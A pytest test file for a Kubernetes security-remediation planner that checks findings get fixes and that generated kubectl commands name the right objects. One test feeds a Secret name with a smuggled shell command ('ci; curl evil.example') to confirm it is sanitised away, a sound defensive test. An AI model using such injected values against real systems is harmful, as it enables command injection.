"""Every finding that matters has a way out, and every step of it says what to do."""

from __future__ import annotations

from pathlib import Path

import pytest

from rolecall.analysis.run import Options, analyse
from rolecall.checks import load as load_checks
from rolecall.model.finding import RANK
from rolecall.model.rule import Check
from rolecall.model.targets import WORDS
from rolecall.planners import load
from rolecall.planning.plan import Plan, make_plan
from rolecall.planning.settings.remedies import table

CHECKS = load_checks()


def planned(root: Path, files: dict[str, str]) -> Plan:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return make_plan(analyse([root], Options(cache=False)), load())


@pytest.mark.parametrize("check", CHECKS, ids=lambda check: check.RULE.id)
def test_what_matters_has_an_answer(check: Check, tmp_path: Path) -> None:
    for number, example in enumerate(check.BAD):
        plan = planned(tmp_path / str(number), dict(example.files))
        known = {migration.id: migration for migration in plan.migrations}
        for finding, record in zip(plan.analysis.findings, plan.to_json()["findings"], strict=True):
            if finding.rule != check.RULE.id or RANK[finding.severity] < RANK["medium"]:
                continue
            assert record["fix"] is not None, finding.message
            migration = known[record["fix"]["migration"]]
            assert migration.phases or migration.handover, finding.message
            assert all(step.what and step.where and step.who for step in migration.handover), finding.message


def test_an_object_is_named_in_its_commands_and_nothing_else_is(tmp_path: Path) -> None:
    token = """\
apiVersion: v1
kind: Secret
metadata:
  name: %s
  namespace: build
  annotations: {kubernetes.io/service-account.name: ci}
type: kubernetes.io/service-account-token
"""
    named = planned(tmp_path / "named", {"token.yaml": token % "ci-token"}).migrations
    assert any("--namespace build delete secret ci-token" in step.command for m in named for step in m.handover)
    hostile = planned(tmp_path / "hostile", {"token.yaml": token % "'ci; curl evil.example'"}).migrations
    assert any("--namespace NAMESPACE delete secret NAME" in step.command for m in hostile for step in m.handover)
    assert not any("evil" in step.command for m in hostile for step in m.handover)


def test_a_pods_service_account_is_named_in_the_commands(tmp_path: Path) -> None:
    pods = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: api, namespace: shop}
spec:
  template:
    spec:
      serviceAccountName: orders
      containers:
        - name: api
          image: api:1
          env:
            - name: AWS_SECRET_ACCESS_KEY
              valueFrom: {secretKeyRef: {name: aws, key: secret}}
"""
    said = [step.command for m in planned(tmp_path, {"pods.yaml": pods}).migrations for step in m.handover]
    assert any("--namespace shop --service-account orders --role-arn ROLE_ARN" in command for command in said)
    assert any("kubectl --namespace shop exec deploy/api" in command for command in said)


def test_one_migration_speaks_for_what_takes_the_same_steps(tmp_path: Path) -> None:
    pod = """apiVersion: v1
kind: Pod
metadata: {name: %s}
spec:
  containers:
    - name: web
      image: web:1
      env: [{name: DB_PASSWORD, value: correct-horse-battery-staple}]
"""
    plan = planned(tmp_path, {f"pods/{name}.yaml": pod % name for name in ("one", "two")})
    told = [m for m in plan.migrations if m.subject.kind == "Pod"]
    assert len(told) == 1
    assert {step.where for step in told[0].handover} == {"Pod.default.one, Pod.default.two"}


def test_every_row_is_about_a_rule_and_leads_somewhere() -> None:
    rules = {check.RULE.id for check in CHECKS}
    assert set(table()) <= rules
    for row in {row for rows in table().values() for row in rows}:
        assert row.target in WORDS
        assert row.about in ("credential", "identity", "grant", "trust")
        assert row.why and row.steps
